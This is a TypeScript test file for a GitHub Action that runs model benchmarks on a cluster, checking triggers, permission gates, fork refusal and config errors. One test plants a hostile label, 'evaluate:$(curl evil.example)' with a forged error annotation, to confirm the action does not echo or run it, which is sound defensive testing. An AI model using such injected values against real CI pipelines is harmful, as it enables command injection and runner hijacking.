import { decodeSummary } from '@model-eval/action';
import { describe, expect, it } from 'vitest';
import {
  clusterInputs,
  eventFixture,
  RESULTS_REPO,
  runAction,
  uniqueRemoteDir,
  useWorld,
  waitForSacct,
} from './harness';

const world = useWorld();
const MODEL = 'deepseek-ai/DeepSeek-R1-Distill-Qwen-7B';

/**
 * Runs the action where it must stop, skipped, before any SSH connection: nothing listens on port 1,
 * so had the action tried to connect, it would have failed, not skipped.
 */
async function runSkipped(eventName: string, event: unknown) {
  const run = await runAction(world(), {
    eventName,
    event,
    inputs: { ...clusterInputs(world(), uniqueRemoteDir(world())), 'ssh-port': '1', model: MODEL },
  });
  expect(run.outputs.status, run.stdout).toBe('skipped');
  expect(run.exitCode).toBe(0);
  return run;
}

describe('the bundled action, run as the runner runs it, against the real cluster', () => {
  it('workflow_dispatch: plans, submits over SSH, collects, reports, uploads, and sets every output', async () => {
    world().github.setPermission('octocat', 'write');
    const run = await runAction(world(), {
      eventName: 'workflow_dispatch',
      event: eventFixture('workflow-dispatch'),
      inputs: { ...clusterInputs(world(), uniqueRemoteDir(world())), 'results-repo': RESULTS_REPO },
    });
    expect(run.stdout, run.stdout).not.toMatch(/::error::/);
    expect(run.outputs.status, run.stdout).toBe('succeeded');
    expect(run.exitCode).toBe(0);
    const results = JSON.parse(run.outputs.results ?? '[]') as { benchmark: string; value: number }[];
    expect(results.map((r) => r.benchmark).sort()).toEqual(['aime24', 'math_500']);
    const plan = JSON.parse(run.outputs.plan ?? '{}') as { jobs: { tensorParallel: number }[] };
    expect(plan.jobs[0]?.tensorParallel).toBe(1);
    const jobs = await waitForSacct(run.outputs['run-id'] ?? 'missing', 1);
    expect(jobs.map((j) => j.id)).toEqual(run.outputs['job-ids']?.split(','));
    expect(jobs.every((j) => j.state === 'COMPLETED')).toBe(true);
    expect(run.summary).toContain('SIMULATED');
    // One SIMULATED banner and title marker, and a row per benchmark under its readable name.
    expect(run.summary).toMatch(/^## 🧪 SIMULATED · /m);
    expect(run.summary).toMatch(/^\| AIME 2024 \| 30 × /m);
    const commit = world().datasets.commits.at(-1);
    expect(commit?.repo).toBe(RESULTS_REPO);
    expect(commit?.paths).toEqual(expect.arrayContaining(['summary.parquet', 'README.md']));
    expect(
      commit?.paths.some((p) =>
        /^deepseek-ai\/DeepSeek-R1-Distill-Qwen-7B\/main\/aime24\/results_.*\.json$/.test(p),
      ),
    ).toBe(true);
    expect(commit?.description).toContain('/actions/runs/');
    // The baseline (a fixed model) has no results in the repository yet: said, not invented.
    expect(run.summary).toMatch(/No baseline results found/);
  });
});

describe('each trigger becomes the right evaluation', () => {
  it('a release tag evaluates the tagged revision, with no permission check (a push needs write access)', async () => {
    const run = await runAction(world(), {
      eventName: 'push',
      event: eventFixture('push-tag'),
      inputs: {
        ...clusterInputs(world(), uniqueRemoteDir(world())),
        model: MODEL,
        benchmarks: 'math_500',
      },
    });
    expect(run.outputs.status, run.stdout).toBe('succeeded');
    expect(run.stdout).toContain(`${MODEL}@v1.2.0`);
    expect(world().github.state.calls.some((c) => c.path.includes('/collaborators/Codertocat/'))).toBe(false);
  });

  it('a push of a branch, or of a tag outside the pattern, is skipped without touching the cluster', async () => {
    await runSkipped('push', eventFixture('push-branch'));
  });

  it('a checkpoint dispatch evaluates the pushed step and charts it', async () => {
    world().github.setPermission('Codertocat', 'write');
    const run = await runAction(world(), {
      eventName: 'repository_dispatch',
      event: eventFixture('repository-dispatch-checkpoint'),
      inputs: { ...clusterInputs(world(), uniqueRemoteDir(world())), 'results-repo': RESULTS_REPO },
    });
    expect(run.outputs.status, run.stdout).toBe('succeeded');
    expect(run.stdout).toContain('my-org/qwen-7b-grpo@step-1200');
    const summary = world().datasets.repos.get(RESULTS_REPO)?.files.get('summary.parquet');
    const rows = summary ? await decodeSummary(new Uint8Array(summary), 'summary.parquet') : [];
    expect(rows.filter((r) => r.revision === 'step-1200')).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ model: 'my-org/qwen-7b-grpo', step: 1200, simulated: true }),
      ]),
    );
  });

  it('a label from someone without write permission is refused before any SSH connection', async () => {
    world().github.setPermission('Codertocat', 'read');
    const callsBefore = world().github.state.calls.length;
    const run = await runSkipped('pull_request_target', eventFixture('pull-request-target-labeled'));
    expect(run.stdout).toMatch(/::notice::.*permission/i);
    const calls = world()
      .github.state.calls.slice(callsBefore)
      .map((c) => `${c.method} ${c.path}`);
    expect(calls).toEqual(['GET /repos/Codertocat/Hello-World/collaborators/Codertocat/permission']);
  });

  it('a triager adding evaluate to a PR with a malformed evaluate:<x> label gets a neutral skip that echoes nothing', async () => {
    world().github.setPermission('Codertocat', 'triage');
    const event = eventFixture('pull-request-target-labeled') as {
      pull_request: { labels: { name: string }[] };
    };
    const hostile = 'evaluate:$(curl evil.example)\n::error::forged';
    event.pull_request.labels = [
      ...event.pull_request.labels,
      { ...event.pull_request.labels[0], name: hostile },
    ];
    const run = await runSkipped('pull_request_target', event);
    // GitHub reports a triager's permission as read (role_name triage).
    expect(run.stdout).toMatch(/::notice::.*'read' permission/);
    // Neither the label's text nor a failed step: the guard ran before the labels were read.
    expect(run.stdout).not.toContain('curl evil.example');
    expect(run.stdout).not.toMatch(/::error::/);
  });

  it('a label on a pull request from a fork is refused unless allow-fork-prs', async () => {
    world().github.setPermission('a-maintainer', 'admin');
    const run = await runSkipped('pull_request_target', eventFixture('pull-request-target-labeled-fork'));
    expect(run.stdout).toMatch(/::notice::.*fork/i);
  });

  it('a malformed config file fails the step with the file, line and what is wrong', async () => {
    world().github.setPermission('octocat', 'write');
    const run = await runAction(world(), {
      eventName: 'workflow_dispatch',
      event: eventFixture('workflow-dispatch'),
      inputs: { ...clusterInputs(world(), uniqueRemoteDir(world())), 'ssh-port': '1' },
      configFile: [`model: ${MODEL}`, 'cluster:', '  gpus-per-node: eight', ''].join('\n'),
    });
    expect(run.exitCode).toBe(1);
    expect(run.outputs.status).toBe('failed');
    expect(run.stdout).toMatch(/::error::.*model-eval\.yml:3:\d+: cluster\.gpus-per-node/);
  });
});

describe('every GitHub API call of these runs', () => {
  it("matched GitHub's OpenAPI description (requests and responses)", () => {
    expect(world().github.state.violations).toEqual([]);
  });
});
